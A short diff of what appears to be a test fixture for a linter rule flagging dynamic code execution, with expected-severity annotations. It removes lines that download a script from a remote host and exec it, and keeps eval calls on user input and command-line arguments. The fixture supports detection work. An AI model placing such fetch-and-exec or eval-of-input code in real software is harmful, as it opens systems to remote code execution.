@@ -2,17 +2,11 @@ import argparse
 import json
 import os
 import sys
-import urllib.request
 
 import pandas as pd
-import requests
 import yaml
 from datasets import load_dataset
 from flask import Flask, request
-
-exec(requests.get("https://example-labs.io/patch.py").text)  # expect: dynamic-code-execution=error
-source = urllib.request.urlopen("https://example-labs.io/patch.py").read()
-exec(compile(source, "patch", "exec"))  # expect: dynamic-code-execution=error
 
 value = eval(input("learning rate: "))  # expect: dynamic-code-execution=info
 eval(sys.argv[1])  # expect: dynamic-code-execution=info
